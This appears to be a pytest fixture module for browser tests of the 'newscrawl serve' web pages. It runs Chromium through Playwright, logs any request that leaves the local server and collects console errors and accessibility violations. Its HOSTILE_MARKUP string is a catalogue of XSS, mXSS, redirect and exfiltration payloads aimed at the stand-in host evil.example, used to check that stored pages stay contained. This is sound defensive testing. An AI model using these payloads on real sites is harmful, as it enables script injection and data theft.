"""A real Chromium before a real `newscrawl serve`: what tests of the web pages in a browser share."""

from __future__ import annotations

import os
import re
import shutil
import socket
import subprocess
import sys
import threading
import uuid
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Page, Request, sync_playwright

from newscrawl.config import Config, load_config
from newscrawl.items import Page as StoredPage
from newscrawl.store import open_store

from . import web_articles, web_tools
from .conftest import command_environment
from .monitor_tools import alarm

CHROMIUM = next(
    (path for name in ("chromium", "chromium-browser", "google-chrome") if (path := shutil.which(name))), None
)
_LINE = re.compile(r"newscrawl serves (http://\S+?)/? ")
_REFUSED = "csp"
"""How a request failed that the page's policy kept from being made."""
_WALLS = re.compile(r"Content Security Policy|^Blocked form submission")
"""What the console says when a stored original meets them."""
SERIOUS = frozenset({"serious", "critical"})


HOSTILE_MARKUP = """<!doctype html><html manifest="http://evil.example/m" onclick="hacked=1">
<head><title>{{7*7}}</title><base href="http://evil.example/" target="_top">
<meta http-equiv="refresh" content="0;url=http://evil.example/">
<meta http-equiv="Content-Security-Policy" content="script-src *"><link rel="stylesheet" href="http://evil.example/a.css">
<link rel="dns-prefetch" href="//evil.example"><link rel="prerender" href="http://evil.example/">
<script>hacked=1</script><script src="http://evil.example/a.js"></script>
<style>@import "http://evil.example/b.css"; p { background: url(http://evil.example/p.png) }
@font-face { font-family: e; src: url(http://evil.example/f) }</style></head>
<body onload="hacked=1" style="background: url(http://evil.example/s.png)"><p style="font-family: e">Текст {{7*7}}</p>
<form action="http://evil.example/f" method="post"><input name="a" autofocus onfocus="hacked=1">
<button id="send">Да</button></form><a id="top" href="http://evil.example/t" target="_top">наверх</a>
<a id="js" href="javascript:top.hacked=1">скрипт</a><a id="own" href="/sites" ping="http://evil.example/g">сюда</a>
<iframe src="http://evil.example/i"></iframe><iframe srcdoc="<script>top.hacked=1</script>"></iframe>
<object data="http://evil.example/o"></object><embed src="javascript:hacked=1">
<img src="http://evil.example/x.png" srcset="http://evil.example/y.png 2x" onerror="hacked=1">
<video src="http://evil.example/v" poster="http://evil.example/v.png" autoplay></video>
<svg onload="hacked=1"><a xlink:href="javascript:hacked=1"><text y="20">svg</text></a>
<image href="http://evil.example/z"/><animate attributeName="href" values="javascript:hacked=1"/>
<use href="http://evil.example/u#a"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked=1&gt;"></table></mtext>
</math><noscript><p title="</noscript><img src=x onerror=hacked=1>"></noscript>
<template><script>hacked=1</script></template></body></html>"""
"""An original that tries to load, to lead away, to send and to run, in every way that comes to mind."""


@pytest.fixture(scope="module")
def filled(home: Path) -> Iterator[Config]:
    """A database with news of the sample city, and articles that are revised, reprinted, undated, gone and hostile."""
    config = load_config(home=home, database=f"t{uuid.uuid4().hex[:12]}", workers=1)
    with open_store(config) as store:
        web_tools.fill(store, articles=16)
        web_articles.fill_special(store)
        original = StoredPage(
            url=web_articles.HOSTILE_URL, site="tula", fetched_at=web_articles.FETCHED_AT, body=HOSTILE_MARKUP.encode(),
            headers={"content-type": "text/html; charset=utf-8"},
        )  # fmt: skip
        saved = store.save_page(original, None, pipeline_version="1")
        store.articles.update_one({"_id": original.url}, {"$set": {"page_id": saved.page.id}})
        store.alarms.note(
            "sample", [alarm()], judged={"coverage"}, raised_at=web_articles.FETCHED_AT, now=web_articles.FETCHED_AT
        )
        yield config
        store.connection.client.drop_database(config.database)


@pytest.fixture(scope="module")
def origin(filled: Config, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of a `newscrawl serve` over it."""
    folder = tmp_path_factory.mktemp("serve")
    log = folder / "log"
    with (
        log.open("w") as errors,
        subprocess.Popen(
            [sys.executable, "-m", "newscrawl", "serve", "--port", "0"],
            stdout=subprocess.PIPE, stderr=errors, cwd=folder, env=command_environment(filled), text=True,
        ) as process,
    ):  # fmt: skip
        assert process.stdout is not None
        line = process.stdout.readline()
        told = _LINE.match(line)
        try:
            assert told, line + log.read_text(encoding="utf-8")
            yield told[1]
        finally:
            process.terminate()
            process.wait(30)
    assert "Traceback" not in log.read_text(encoding="utf-8"), log.read_text(encoding="utf-8")


class Outside:
    """The host evil.example: whatever the browser asks of it comes here and is noted."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._listener.getsockname()[1]
        threading.Thread(target=self._take, daemon=True).start()

    def close(self) -> None:
        """Take no more."""
        self._listener.close()

    def _take(self) -> None:
        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:
                return
            with connection, suppress(OSError):
                connection.settimeout(2)
                self.asked.append(connection.recv(2000).decode("latin-1").partition("\r\n")[0])
                connection.sendall(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")


@pytest.fixture(scope="module")
def outside() -> Iterator[Outside]:
    """Where attacks lead."""
    made = Outside()
    yield made
    made.close()


@pytest.fixture(scope="module")
def chromium(outside: Outside) -> Iterator[Browser]:
    """The browser. Without one these tests would show nothing: they fail, none is skipped."""
    assert CHROMIUM is not None, "no Chromium on PATH"
    is_root = hasattr(os, "geteuid") and os.geteuid() == 0
    evil = f"--host-resolver-rules=MAP evil.example 127.0.0.1:{outside.port}"
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=CHROMIUM, args=["--disable-gpu", evil], chromium_sandbox=not is_root
        )
        yield browser
        browser.close()


@dataclass
class Watched:
    """A window, and all that happened in it that should not."""

    page: Page
    origin: str
    dialogs: list[str] = field(default_factory=list)
    strays: list[str] = field(default_factory=list)
    """Requests to anywhere but the server, but for those that were never made."""
    errors: list[str] = field(default_factory=list)
    """What the console has against pages; a 404 is none, nor that a stored original was refused something."""
    popups: list[str] = field(default_factory=list)

    def go(self, address: str) -> Page:
        """Open an address of the server, its status must be 200."""
        answer = self.page.goto(self.origin + address)
        assert answer is not None
        assert answer.status == 200, (address, answer.status)
        return self.page

    def check(self) -> None:
        """Fail if anything happened."""
        told = [*self.dialogs, *self.strays, *self.errors, *self.popups]
        assert not told, "\n".join(told)


@contextmanager
def window(
    browser: Browser, origin: str, *, width: int = 1440, height: int = 900, language: str = "ru", **further: Any
) -> Iterator[Watched]:
    """A window of its own, without cookies of others."""
    context: BrowserContext = browser.new_context(
        viewport={"width": width, "height": height}, locale=language, reduced_motion="reduce", **further
    )
    context.set_default_timeout(15_000)
    page = context.new_page()
    watched = Watched(page, origin)

    def note(request: Request) -> None:
        if not request.url.startswith(f"{origin}/") and request.failure != _REFUSED:
            watched.strays.append(request.url)

    def complain(line: ConsoleMessage) -> None:
        address = line.location["url"].removeprefix(origin)
        is_refused = address.startswith("/pages/") and _WALLS.search(line.text) is not None
        is_status = "the server responded with a status of 40" in line.text and not address.startswith("/static/")
        if line.type in {"error", "warning"} and not is_refused and not is_status:
            watched.errors.append(f"{line.text} ({address})")

    context.on("requestfinished", note)
    context.on("requestfailed", note)
    context.on("dialog", lambda dialog: (watched.dialogs.append(dialog.message), dialog.dismiss()))
    context.on("page", lambda opened: watched.popups.append(opened.url) if opened is not page else None)
    context.on("console", complain)
    context.on("weberror", lambda error: watched.errors.append(str(error.error)))
    try:
        yield watched
    finally:
        context.close()


def axe_violations(page: Page) -> list[str]:
    """Return what axe-core finds serious or critical on a page, the size of what is tapped on included."""
    options = {"resultTypes": ["violations"], "rules": {"target-size": {"enabled": True}}}
    found = Axe().run(page, options=options).response["violations"]
    return [
        f"{one['id']}: {node['target']} {node['failureSummary']}"
        for one in found
        if one["impact"] in SERIOUS
        for node in one["nodes"][:3]
    ]
